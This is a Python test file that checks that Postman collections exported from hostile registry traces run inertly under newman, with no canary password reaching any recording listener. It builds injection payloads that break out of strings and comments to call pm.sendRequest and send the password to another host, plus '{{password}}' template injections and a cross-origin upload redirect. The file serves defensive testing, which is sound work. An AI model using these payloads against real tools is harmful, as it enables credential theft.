"""Postman collections of hostile traces are inert: newman runs them and no credential leaves for another host.

Each trace's hosts are moved onto loopback listeners that record every request
(tests/infra/recording_listener.py); newman runs the exported collection with
``--env-var password=CANARY`` (the corpus's canary). What holds:

- free text (tests/hostile/corpus.free_text_trace, plus payloads that would send the password
  to a listener if they became code: a registry's ``Docker-Content-Digest`` breaking out of a
  string, an ``error`` breaking out of a comment): the canary reaches no listener, not even
  base64 in ``Authorization: Basic``; no script fails to compile; no marker file appears;
  the "Other" host's ``{{password}}`` arrives percent-encoded, never filled in;
- credentials: in a Basic trace the registry gets them (the control that proves the detector
  works), while a storage host of a redirect, an "Other" host and a token server that only a
  storage host's challenge names get none, even when the trace recorded an Authorization there,
  and even when the live registry redirects a blob the trace got directly, to the same host name
  (Postman's own redirects keep Authorization unless the host NAME changes), or names an upload
  Location on another origin (the confused deputy);
- protocol values (corpus.protocol_traces): refused at export time, one line, exit 2, no file.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from explorer import trace as tracefile
from explorer.trace import Trace
from tests.hostile import corpus
from tests.infra.newman import NewmanRun, run_collections
from tests.infra.recording_listener import Heard, RecordingListener
from tests.infra.runner import run_cli
from tests.render.factory import AUTH, CDN, OCI_MANIFEST, OCTET, REG, Builder, body, dg, json_body

OTHER = "other.example:8080"  # the corpus's "Other" host
STORAGE_REALM = "storage-realm.example:9000"
OUR_VARIABLES = re.compile(r"\{\{([^{}]*)\}\}")


def _moved(trace: Trace, hosts: dict[str, str]) -> Trace:
    """The trace with each recorded host replaced (URLs, Location and challenge headers alike)."""
    text = tracefile.dumps(trace)
    for old, new in hosts.items():
        text = text.replace(old, new)
    return tracefile.loads(text)


def _export(trace: Trace, path: Path) -> dict:
    source = path.with_suffix(".trace.json")
    tracefile.save(trace, source)
    run = run_cli("export", "postman", str(source), "-o", str(path))
    assert run.code == 0, run.output
    return json.loads(path.read_text())


def _leaked(heard: list[Heard]) -> list[Heard]:
    return [h for h in heard if h.carries(corpus.CANARY_PASSWORD)]


def _newman(name: str, collection: Path, work: Path) -> NewmanRun:
    env = {"username": "canary-user", "password": corpus.CANARY_PASSWORD}
    return run_collections([(name, collection, env)], work)[name]


def _exfiltration(leak: str) -> tuple[str, str]:
    """JavaScript that would send the password to ``leak`` if a value became code: (string break, comment break)."""
    send = f'pm.sendRequest("http://{leak}/leak/" + pm.variables.get("password"))'
    return f'sha256:x"); {send}; ("', f"x\n{send};//"


def _parseable_challenge(trace: Trace) -> None:
    """The corpus's challenge as a quoted-string that parses (``annotate`` raises MalformedHeader on the raw one)."""
    headers = trace.exchanges[0].response.headers  # type: ignore[union-attr]
    for i, (key, value) in enumerate(headers):
        if key.lower() == "www-authenticate":
            realm, _, service = value.partition(',service="')
            quoted = "".join(c for c in service[:-1] if c.isprintable()).replace("\\", "\\\\").replace('"', '\\"')
            headers[i] = (key, f'{realm},service="{quoted}"')


def _free_text_with_exfiltration(marker: Path) -> Trace:
    trace = corpus.free_text_trace(marker)
    _parseable_challenge(trace)
    string_break, comment_break = _exfiltration(OTHER)
    b = Builder("pull", trace.target or "")
    b.trace, b.bearer = trace, True
    b.add("GET", f"http://{REG}/v2/team/app/manifests/1.0", 200, step="resolve tag again",
          headers=[("Content-Type", OCI_MANIFEST), ("Docker-Content-Digest", string_break)],
          resp_body=json_body({"schemaVersion": 2}, OCI_MANIFEST))
    b.add("GET", f"http://{REG}/v2/team/app/blobs/{dg('layer3')}", None, step="fetch layer", error=comment_break)
    b.add("GET", f"http://{REG}/v2/team/app/blobs/{dg('layer4')}", 404, step=comment_break, reason=string_break,
          req_headers=[("X-Evil", "{{password}}")])
    return trace


def test_free_text_trace_runs_inertly_under_newman(tmp_path):
    marker = corpus.marker_path(tmp_path)
    heard: list[Heard] = []
    string_break, _ = _exfiltration("127.0.0.1:9")

    def registry_answer(method: str, path: str) -> tuple[int, list[tuple[str, str]], bytes]:
        if path.rstrip("/") == "/v2":
            return 401, [("WWW-Authenticate", f'Bearer realm="{auth.url}/token",service="evil {{{{password}}}}"')], b"{}"
        return 200, [("Content-Type", "application/json"), ("Docker-Content-Digest", string_break)], b"{}"

    with RecordingListener("registry", heard, registry_answer) as registry, \
            RecordingListener("auth", heard) as auth, RecordingListener("other", heard) as other:
        trace = _moved(_free_text_with_exfiltration(marker),
                       {REG: registry.host, AUTH: auth.host, OTHER: other.host})
        collection = tmp_path / "free-text.postman_collection.json"
        data = _export(trace, collection)
        text = collection.read_text()
        assert "{{password}}" not in text  # no Basic anywhere in this trace, and every recorded one is inert
        defined = {v["key"] for v in data["variable"]}
        assert set(OUR_VARIABLES.findall(text)) <= defined, set(OUR_VARIABLES.findall(text)) - defined
        run = _newman("free-text", collection, tmp_path)
    assert run.error is None, run.error
    assert run.scripts_failed == 0, str(run)  # a value that became code would break or throw in its script
    assert run.requests >= 8, str(run)
    assert not _leaked(heard), _leaked(heard)
    assert not marker.exists()
    others = [h for h in heard if h.listener == "other"]
    assert others and all("%7B%7Bpassword%7D%7D" in h.path for h in others), others  # reached, never filled in
    assert not any("/leak/" in h.path for h in heard)


def _credentials_trace() -> Trace:
    """A Basic pull: a redirect to storage, an "Other" host and a token server a storage host names, all with
    a recorded Authorization (a hostile trace may say anything)."""
    basic = [("Authorization", "Basic <redacted>")]
    b = Builder("pull", f"{REG}/team/app:1.0")
    b.add("GET", f"http://{REG}/v2/", 401, step="ping", headers=[("WWW-Authenticate", 'Basic realm="registry"')])
    b.add("GET", f"http://{REG}/v2/", 200, step="ping", req_headers=basic)
    b.add("GET", f"http://{REG}/v2/team/app/manifests/1.0", 200, step="resolve tag", req_headers=basic,
          headers=[("Content-Type", OCI_MANIFEST), ("Docker-Content-Digest", dg("m"))],
          resp_body=body(2, OCI_MANIFEST, "{}"))
    target = f"http://{CDN}/blobs/{dg('layer1')[7:]}"
    b.add("GET", f"http://{REG}/v2/team/app/blobs/{dg('layer1')}", 307, step="fetch layer 1/1", req_headers=basic,
          headers=[("Location", target)])
    b.add("GET", target, 401, step="fetch layer 1/1", req_headers=basic,
          headers=[("WWW-Authenticate", f'Bearer realm="http://{STORAGE_REALM}/token",service="storage"')])
    b.add("GET", f"http://{STORAGE_REALM}/token?service=storage&scope=blob", 200, step="authenticate",
          req_headers=basic, resp_body=json_body({"token": "<redacted>"}))
    b.add("GET", target, 200, step="fetch layer 1/1", req_headers=basic, resp_body=body(10, OCTET))
    b.add("GET", f"http://{REG}/v2/team/app/blobs/{dg('layer2')}", 200, step="fetch layer 2/2", req_headers=basic,
          resp_body=body(10, OCTET))  # not redirected in the trace: the live registry redirects it (same host name)
    b.add("GET", f"http://{OTHER}/elsewhere?u={{{{username}}}}", 200, step="other", req_headers=basic)
    b.add("POST", f"http://{REG}/v2/team/app/blobs/uploads/", 202, step="upload", req_headers=basic,
          headers=[("Location", "/v2/team/app/blobs/uploads/u1")])
    b.add("PUT", f"http://{REG}/v2/team/app/blobs/uploads/u1?digest={dg('x')}", 201, step="upload",
          req_headers=basic + [("Content-Type", "application/json")], req_body=json_body({"x": 1}))
    return b.done()


def test_credentials_go_only_to_the_registry(tmp_path):
    heard: list[Heard] = []

    def registry_answer(method: str, path: str) -> tuple[int, list[tuple[str, str]], bytes]:
        if method == "POST":  # the confused deputy: an upload Location on another origin
            return 202, [("Location", f"{other.url}/v2/team/app/blobs/uploads/u1")], b""
        if "/blobs/" in path:  # a live redirect to the storage listener (127.0.0.1 too, another port)
            return 307, [("Location", f"{storage.url}/blobs/{path.rpartition(':')[2]}")], b""
        return 200, [("Content-Type", "application/json")], b"{}"

    with RecordingListener("registry", heard, registry_answer) as registry, \
            RecordingListener("storage", heard) as storage, RecordingListener("realm", heard) as realm, \
            RecordingListener("other", heard) as other:
        trace = _moved(_credentials_trace(), {REG: registry.host, CDN: storage.host, STORAGE_REALM: realm.host,
                                              OTHER: other.host})
        collection = tmp_path / "credentials.postman_collection.json"
        _export(trace, collection)
        run = _newman("credentials", collection, tmp_path)
    assert run.error is None and run.scripts_failed == 0, str(run)
    by_host = {name: [h for h in heard if h.listener == name] for name in ("registry", "storage", "realm", "other")}
    assert all(by_host.values()), {k: len(v) for k, v in by_host.items()}  # every host was reached
    assert _leaked(by_host["registry"]), "the control: the registry gets the Basic credentials"
    for name in ("storage", "realm", "other"):
        assert not _leaked(by_host[name]), (name, _leaked(by_host[name]))
        assert not any(k.lower() == "authorization" for h in by_host[name] for k, _ in h.headers), name
    assert all("canary-user" not in h.path for h in by_host["other"])  # its {{username}} stayed text
    assert any(h.method == "PUT" for h in by_host["other"])  # the upload followed the Location, uncredentialed


@pytest.mark.parametrize("case", sorted(corpus.protocol_traces(Path("/marker"))))
def test_hostile_protocol_values_are_refused_at_export(case, tmp_path):
    marker = corpus.marker_path(tmp_path)
    source = tmp_path / "hostile.trace.json"
    tracefile.save(corpus.protocol_traces(marker)[case], source)
    out = tmp_path / "hostile.postman_collection.json"
    run = run_cli("export", "postman", str(source), "-o", str(out))
    assert run.code == 2, run.output
    errors = [line for line in run.output.splitlines() if line.startswith("error:")]
    assert len(errors) == 1 and "cannot export exchange" in errors[0], run.output
    assert "Traceback" not in run.output and not out.exists() and not marker.exists()
